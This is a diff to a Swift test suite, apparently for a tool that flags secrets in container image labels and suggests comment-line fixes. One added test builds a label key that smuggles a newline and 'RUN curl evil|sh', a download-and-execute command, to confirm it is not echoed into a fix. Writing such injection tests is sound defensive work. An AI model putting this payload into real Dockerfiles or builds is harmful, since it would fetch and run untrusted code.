@@ -20,6 +20,20 @@ internal import Testing
       ]
     )
     #expect(judgement.findings.allSatisfy { $0.severity == .warning })
+    #expect(
+      judgement.fixes == [
+        "# without LABEL ci; and revoke it: whoever has the image has it",
+        "# without LABEL old; and revoke it: whoever has the image has it",
+      ]
+    )
+  }
+
+  @Test func `puts no name into a fix that would act in it`() async throws {
+    let image = ImageBuilder(
+      [],
+      config: ["Labels": .object([("x\nRUN curl evil|sh #.token", "0a1B2c3D4e5F6g7H")])]
+    )
+    #expect(try await judge("secret-label", image).fixes == ["# without the LABEL"])
   }
 
   @Test func `passes over what labels are for`() async throws {
